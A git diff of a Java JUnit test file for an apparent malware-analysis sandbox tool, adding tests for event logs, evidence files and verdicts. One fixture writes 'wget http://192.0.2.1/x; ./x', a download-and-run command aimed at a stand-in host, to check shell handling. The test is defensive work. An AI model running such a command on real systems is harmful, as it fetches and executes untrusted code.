@@ -14,6 +14,7 @@ import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.security.MessageDigest;
+import java.time.Duration;
 import java.util.ArrayList;
 import java.util.HexFormat;
 import java.util.List;
@@ -27,6 +28,16 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.platform.testkit.engine.Events;
+import org.malassay.behavior.Event;
+import org.malassay.behavior.EventLog;
+import org.malassay.behavior.Facet;
+import org.malassay.behavior.FacetState;
+import org.malassay.behavior.Origin;
+import org.malassay.behavior.Recording;
+import org.malassay.behavior.ServiceAsked;
+import org.malassay.behavior.UnsupportedCall;
+import org.malassay.environment.Evidence;
+import org.malassay.environment.Piece;
 import org.malassay.label.Label;
 import org.malassay.options.Option;
 import org.malassay.options.OptionException;
@@ -37,6 +48,9 @@ import org.malassay.report.Runs;
 import org.malassay.run.Result;
 import org.malassay.run.RunDirectory;
 import org.malassay.run.RunHeader;
+import org.malassay.run.Session;
+import org.malassay.verdict.Cause;
+import org.malassay.verdict.Verdict;
 import org.malassay.verdict.Verdict.Outcome;
 
 class ExperimentTest extends ExperimentFixture {
@@ -66,6 +80,38 @@ class ExperimentTest extends ExperimentFixture {
     Result result = only(it -> it.option(RunOptions.SAMPLE, "forks"));
     assertThat(result.refusedCalls()).hasToString("[fork:ENOSYS:2]");
     assertThat(result.verdict().cause()).hasToString("Optional[needs a process: fork]");
+  }
+
+  @Test
+  void whatAnEnvironmentNotesOfASampleIsInTheRowAndChangesNoVerdict() throws IOException {
+    sample("remarked", "remarked words");
+    Result result = only(it -> it.option(RunOptions.SAMPLE, "remarked"));
+    assertThat(result.note()).isEqualTo("seen of it: words");
+    assertThat(result.verdict()).isEqualTo(Verdict.notExecutable(Cause.of(Cause.Type.ABORT)));
+  }
+
+  /** What a guest tells and what this side asks: one log, whose facets the row tells of. */
+  @Test
+  void whatIsSeenOfASampleIsAmongItsEvidence() throws IOException {
+    sample("forks", "forks");
+    Result result = only(it -> it.option(RunOptions.SAMPLE, "forks"));
+
+    List<Event> events = new ArrayList<>();
+    EventLog.read(latest().path().resolve(result.evidence()).resolve(EventLog.FILE), events::add);
+
+    assertThat(events)
+        .filteredOn(UnsupportedCall.class::isInstance)
+        .containsExactly(
+            new UnsupportedCall(Duration.ZERO, Origin.LIBRARY_OS, "fork", "ENOSYS", 1),
+            new UnsupportedCall(Duration.ofMillis(1), Origin.LIBRARY_OS, "fork", "ENOSYS", 1));
+    assertThat(events)
+        .filteredOn(ServiceAsked.class::isInstance)
+        .hasSizeGreaterThanOrEqualTo(2)
+        .first()
+        .satisfies(before -> assertThat(before.at()).isNegative());
+    Recording recording = result.recording().orElseThrow();
+    assertThat(recording.of(Facet.SERVICE)).isEqualTo(FacetState.OBSERVED);
+    assertThat(recording.of(Facet.CALLS)).isEqualTo(FacetState.missing("fake does not tell them"));
   }
 
   @Test
@@ -132,6 +178,44 @@ class ExperimentTest extends ExperimentFixture {
         .allMatch(result -> result.threatScore().isEmpty());
   }
 
+  @Test
+  void whatAnEmulatorIsExpectedToRefuseIsNoError() throws IOException {
+    sample("e-odd", "differs oddly");
+    String said = "INCONCLUSIVE: the emulator refuses what Linux runs: oddly";
+    String row = "%s,INCONCLUSIVE,the emulator refuses what Linux runs: %s\n";
+    Path others =
+        Files.writeString(
+            folder.resolve("others.csv"),
+            "sample,verdict,cause\n" + row.formatted("e-odd", "otherwise"));
+    Path expected =
+        Files.writeString(
+            folder.resolve("expected.csv"),
+            "sample,verdict,cause\n"
+                + row.formatted("e-odd", "oddly")
+                + row.formatted("a-exits", "oddly")); // which it does not, where it runs
+
+    assertThat(failures(run(it -> it.expecting(others))).values())
+        .containsExactly("e-odd in fake: " + said);
+    assertThat(failures(run(it -> it.expecting(expected)))).isEmpty();
+    assertThat(results()).filteredOn(Result::tolerated).extracting(Result::sample).hasSize(1);
+  }
+
+  @Test
+  void aTextWithoutAnInterpreterIsRunWhenAShellIsToRunIt() throws IOException {
+    Files.writeString(corpus.resolve("e-text"), "wget http://192.0.2.1/x; ./x\n");
+    Result byKernel = only(it -> it.option(RunOptions.SAMPLE, "e-text"));
+    assertThat(byKernel.verdict().cause()).hasToString("Optional[not an executable format: text]");
+    Result byShell =
+        only(
+            it ->
+                it.option(RunOptions.SAMPLE, "e-text")
+                    .option(RunOptions.SCRIPTS_BY_SHELL, "shell"));
+    assertThat(byShell.verdict().cause()).hasToString("Optional[exit status: 6]");
+    assertThat(byShell.facts().fileType()).isEqualTo("text");
+    assertThat(onlyFailure(run(it -> it.option(RunOptions.SCRIPTS_BY_SHELL, "ash"))))
+        .contains("-Dscripts=ash", "neither kernel nor shell");
+  }
+
   private Path evidence(Result result) throws IOException {
     return latest().evidence(result).folder();
   }
@@ -171,6 +255,31 @@ class ExperimentTest extends ExperimentFixture {
     assertThat(only(it -> it.option(RunOptions.SAMPLE, "panics")).note())
         .startsWith("took the guest down: it panicked: xxx")
         .hasSizeLessThan(450);
+  }
+
+  /** Whether the tool fails in the guest, after it, or not at all. */
+  @Test
+  void theIndexNamesEveryPieceOfEvidenceAndNoOther() throws IOException {
+    sample("e-loses", "loses everything");
+    sample("f-kept", "cannot be collected");
+    run(it -> it);
+    for (Result result : results()) {
+      Evidence evidence = latest().evidence(result);
+      try (Stream<Path> files = Files.list(evidence.folder())) {
+        assertThat(files.filter(file -> !file.equals(evidence.indexFile())))
+            .as(result.sample())
+            .extracting(file -> file.getFileName().toString())
+            .containsExactlyInAnyOrderElementsOf(
+                evidence.index().stream().map(Piece::name).toList());
+      }
+      assertThat(evidence.index())
+          .extracting(Piece::name)
+          .contains(
+              EventLog.FILE,
+              "stdout",
+              result.sample().equals("f-kept") ? "failure.txt" : "service.log",
+              result.sample().equals("e-loses") ? "console.log" : "stdout");
+    }
   }
 
   @Test
@@ -560,9 +669,17 @@ class ExperimentTest extends ExperimentFixture {
     assertThat(results())
         .extracting(Result::environment, Result::sample)
         .containsExactlyInAnyOrder(tuple("fake", "a-exits"), tuple("other", "b-fails"));
-    assertThat(header.environments())
-        .isEqualTo(
-            Map.of("fake", Map.of("image", "sha256:1"), "other", Map.of("image", "sha256:9")));
+    assertThat(results())
+        .as("the session of each has the options and facts that it was made with")
+        .allSatisfy(
+            row -> {
+              Session session = header.sessions().get(row.session() - 1);
+              assertThat(session.environments()).containsOnlyKeys(row.environment());
+              assertThat(session.options().get("sample")).startsWith(row.sample().substring(0, 1));
+            });
+    assertThat(header.environments()).containsOnlyKeys("fake", "other");
+    assertThat(header.environments().get("fake")).containsEntry("image", "sha256:1");
+    assertThat(header.environments().get("other")).containsEntry("image", "sha256:9");
     assertThat(header.sessions())
         .extracting(session -> session.options().get("sample"))
         .containsExactly("a-*", "b-*");
@@ -823,6 +940,28 @@ class ExperimentTest extends ExperimentFixture {
   }
 
   @Test
+  void aJournalThatCannotBeReadAnyMoreIsSaidAndTheClosingTableIsPrinted() {
+    Events events =
+        run(
+            it ->
+                it.checking(
+                    result -> {
+                      try {
+                        Files.deleteIfExists(latest().path().resolve("journal.jsonl"));
+                      } catch (IOException e) {
+                        throw new UncheckedIOException(e);
+                      }
+                    }),
+            List.of(report("never", run -> run)));
+    assertThat(failures(events)).containsOnlyKeys("reports");
+    assertThat(onlyFailure(events)).endsWith("journal.jsonl does not exist");
+    assertThat(console())
+        .containsPattern("fake +4 +2 +2 +0 +0")
+        .doesNotContain("\nnever ")
+        .containsPattern("\nrun +/");
+  }
+
+  @Test
   void whatIsNearNoOptionBelongsToOthers() {
     for (String name : List.of("myapp.timeout", "sample.rate", "report.dir", "test")) {
       Option<String> foreign = Option.optional(name, "", "", text -> text);
@@ -999,12 +1138,12 @@ class ExperimentTest extends ExperimentFixture {
   void helpListsEveryOptionWithItsDefault() {
     ByteArrayOutputStream out = new ByteArrayOutputStream();
     Help.print(
-        Providers.of(List.of(fake)),
-        Reports.of(List.of()),
+        Installed.onClassPath().with(List.of(fake), List.of()),
         new PrintStream(out, true, StandardCharsets.UTF_8));
     assertThat(out.toString(StandardCharsets.UTF_8))
         .contains("-Dtime.limit=DURATION", "(default 10s)", "-Dfake.port=PORT", "-Dsetup");
-    RunOptions.all()
+    new RunOptions()
+        .options()
         .forEach(
             option ->
                 assertThat(out.toString(StandardCharsets.UTF_8)).contains("-D" + option.name()));
